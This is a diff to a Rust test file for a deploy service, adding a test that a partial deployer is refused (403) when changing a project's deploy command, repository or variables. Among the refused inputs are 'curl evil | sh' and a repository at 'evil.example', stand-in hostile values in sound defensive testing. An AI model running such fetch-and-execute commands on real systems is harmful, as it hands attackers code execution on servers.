@@ -1,7 +1,8 @@
 //! A deploy reaches only what it is given: the attacks a black-box probe made with a deploy
 //! command (issue 16), each of which worked before deploys ran in their sandbox.
 
-use crate::{environment, project, variable};
+use crate::{environment, project, seeded, status_of, variable};
+use serde_json::json;
 use jeny_deploys::{DeployRequest, DeployStatus};
 use jeny_testkit::{Backend, Client, TestApp, VariableScope, both_backends};
 use std::time::Duration;
@@ -10,6 +11,7 @@ both_backends!(
     a_deploy_cannot_mint_a_token_with_the_servers_own_binary,
     a_deploy_cannot_read_another_running_deploys_secrets,
     a_deploy_cannot_read_the_servers_key_or_database,
+    only_a_deployer_of_every_environment_changes_what_they_all_run,
 );
 
 /// Creates project `name` with `command` and its environment `production` (no hosts needed).
@@ -175,3 +177,116 @@ fn base64_decode(text: &str) -> String {
     .into_owned()
 }
 
+async fn only_a_deployer_of_every_environment_changes_what_they_all_run(backend: Backend) {
+    let (app, admin) = seeded(backend).await;
+    admin
+        .create_environment("web", &environment("staging", &[("role", "web")]))
+        .await
+        .unwrap();
+    let person = app.with_viewer().await;
+    // Deployer of the project, but only a viewer on production.
+    let granted = admin
+        .request(
+            reqwest::Method::PUT,
+            "/api/v1/people/viewer@example.com/grants",
+        )
+        .json(&json!({"grants": [
+            {"project": "web", "role": "deployer"},
+            {"project": "web", "environment": "production", "role": "viewer"},
+        ]}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(granted.status(), 200);
+    let before = admin.get_project("web").await.unwrap().value;
+
+    let refusals = [
+        status_of(
+            person
+                .patch_project("web", &json!({"deploy_command": "curl evil | sh"}), None)
+                .await,
+        ),
+        status_of(
+            person
+                .patch_project("web", &json!({"repository": "https://evil.example/x.git"}), None)
+                .await,
+        ),
+        status_of(
+            person
+                .put_variable(
+                    VariableScope::Project("web"),
+                    "A",
+                    &variable("A", Some("changed"), false),
+                    None,
+                )
+                .await,
+        ),
+        status_of(
+            person
+                .put_variable(
+                    VariableScope::Project("web"),
+                    "NEW",
+                    &variable("NEW", Some("x"), false),
+                    None,
+                )
+                .await,
+        ),
+        status_of(
+            person
+                .delete_variable(VariableScope::Project("web"), "A", None)
+                .await,
+        ),
+        status_of(
+            person
+                .put_variable(
+                    VariableScope::Environment("web", "production"),
+                    "B",
+                    &variable("B", Some("x"), false),
+                    None,
+                )
+                .await,
+        ),
+    ];
+    assert_eq!(refusals, [403; 6]);
+    let after = admin.get_project("web").await.unwrap().value;
+    assert_eq!(after, before, "a refused change changed the project");
+    let variables = admin
+        .request(reqwest::Method::GET, "/api/v1/projects/web/variables")
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(!variables.contains("NEW") && variables.contains("\"A\""), "{variables}");
+
+    // What reaches only staging, and the project's title, remain theirs to change.
+    person
+        .patch_project("web", &json!({"title": "Web shop"}), None)
+        .await
+        .unwrap();
+    person
+        .put_variable(
+            VariableScope::Environment("web", "staging"),
+            "B",
+            &variable("B", Some("x"), false),
+            None,
+        )
+        .await
+        .unwrap();
+    // A deployer everywhere may change the command.
+    let granted = admin
+        .request(
+            reqwest::Method::PUT,
+            "/api/v1/people/viewer@example.com/grants",
+        )
+        .json(&json!({"grants": [{"project": "web", "role": "deployer"}]}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(granted.status(), 200);
+    person
+        .patch_project("web", &json!({"deploy_command": "echo fine"}), None)
+        .await
+        .unwrap();
+}
